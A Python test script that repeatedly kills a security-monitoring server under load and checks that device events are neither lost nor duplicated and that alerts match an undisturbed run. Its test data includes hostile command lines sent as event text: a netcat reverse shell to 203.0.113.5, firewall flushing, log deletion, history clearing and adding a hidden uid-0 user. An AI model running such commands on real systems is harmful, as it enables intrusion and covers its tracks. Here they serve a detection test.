#!/usr/bin/python3
"""Kill -9 of the server in a loop under load: nothing acknowledged is missing, nothing is there twice, and the alerts are
those of an undisturbed run over the same input."""

import contextlib
import os
import random
import threading
import time
import uuid

from harness import PATIENCE, Device, Server, event, main, message, process

DEVICES = 4
ROUNDS = int(os.environ.get("KILL9_ROUNDS", "8"))
SUSPICIOUS = ["sh -c 'echo cpuminer-multi'", "iptables -F", "rm -rf /var/log/syslog", "history -c",
              "nc 203.0.113.5 4444 -e /bin/sh", "useradd -o -u 0 eve"]


def plan(seed, messages):
    """The same input for every run: (event id, command line) by device."""
    chance = random.Random(seed)
    return {f"device-{d}": [(str(uuid.UUID(int=chance.getrandbits(128))),
                             chance.choice(SUSPICIOUS) if chance.random() < 0.05 else f"/usr/bin/true {chance.random()}")
                            for _ in range(messages)] for d in range(DEVICES)}


def wait_for_room(device):
    """Until fewer than 32 publishes wait for their acknowledgement. paho's own thread may die with its socket and leave the
    client "connected": no progress for some seconds is a lost connection too."""
    last, since = len(device.pending), time.monotonic()
    while len(device.pending) > 32 and device.client.is_connected():
        if len(device.pending) < last:
            last, since = len(device.pending), time.monotonic()
        if time.monotonic() - since > 5 * PATIENCE:
            raise OSError("no acknowledgement for a long time")
        time.sleep(0.001)
    if not device.client.is_connected():
        raise OSError("connection lost")


def play(server, credentials, lines, stop, pause):
    """Sends until every line is acknowledged, reconnecting (and sending again) like a device does; `pause` seconds between
    messages, so that the kills come while there is input."""
    left = dict(lines)
    began = time.time()
    while left and not stop.is_set():
        device = Device(server, credentials)
        try:
            if device.connect(5) != 0:
                raise OSError("not connected")
            for event_id, command in list(left.items()):
                body = message(event("ProcessCreate", [process(command)], event_id, when=began))
                device.send(event_id, body)
                time.sleep(pause)
                wait_for_room(device)
            deadline = time.monotonic() + 5 * PATIENCE
            while device.pending and device.client.is_connected() and time.monotonic() < deadline:
                time.sleep(0.005)
        except OSError:
            time.sleep(0.05)
        finally:
            with contextlib.suppress(OSError, ValueError):  # saying goodbye to a server that was killed
                device.client.loop_stop()
                device.client.disconnect()
        for event_id in device.acknowledged:
            left.pop(event_id, None)
    if left:
        raise AssertionError(f"{len(left)} messages were never acknowledged")


def run(lines, kills):
    with Server() as server:
        credentials = {name: server.make_device(name) for name in lines}
        stop = threading.Event()
        problems = []

        def guarded(name):
            try:
                play(server, credentials[name], lines[name], stop, 0.004 * PATIENCE if kills else 0)
            except Exception as problem:
                problems.append(problem)

        threads = [threading.Thread(target=guarded, args=(name,), daemon=True) for name in lines]
        for thread in threads:
            thread.start()
        chance = random.Random(7)
        done = 0
        while done < kills and any(thread.is_alive() for thread in threads):
            time.sleep(0.3 + chance.random())
            server.kill()
            server.start()
            done += 1
        for thread in threads:
            thread.join(120 * PATIENCE)
        stop.set()
        assert not any(thread.is_alive() for thread in threads), "a device was not done sending in time"
        assert not problems, problems
        assert done == kills, f"the input was over after {done} kills: send more"
        total = sum(map(len, lines.values()))
        rows = server.wait_for(
            "SecurityIoTRawEvent | where RawEventName == 'ProcessCreate' | summarize Rows=count() by Id=tostring(parse_json(EventDetails).EventId)",
            lambda rows: len(rows) >= total, 60)
        twice = [row for row in rows if row[1] != 1]
        assert not twice, f"{len(twice)} events are there more than once: {twice[:3]}"
        wanted = {event_id for device in lines.values() for event_id, _ in device}
        assert {row[0] for row in rows} == wanted, "the workspace holds other events than were sent"
        alerts = server.query("SecurityAlert | extend C=tostring(parse_json(ExtendedProperties).CommandLine)"
                              " | distinct AlertType, CompromisedEntity, C")
        return sorted(map(tuple, alerts))


def kill9_loses_nothing_and_doubles_nothing():
    lines = plan(1, 3000)
    disturbed = run(lines, ROUNDS)
    undisturbed = run(lines, 0)
    assert undisturbed, "the plan holds suspicious commands: there must be alerts"
    assert disturbed == undisturbed, f"alerts differ: {set(disturbed) ^ set(undisturbed)}"


if __name__ == "__main__":
    main(kill9_loses_nothing_and_doubles_nothing)
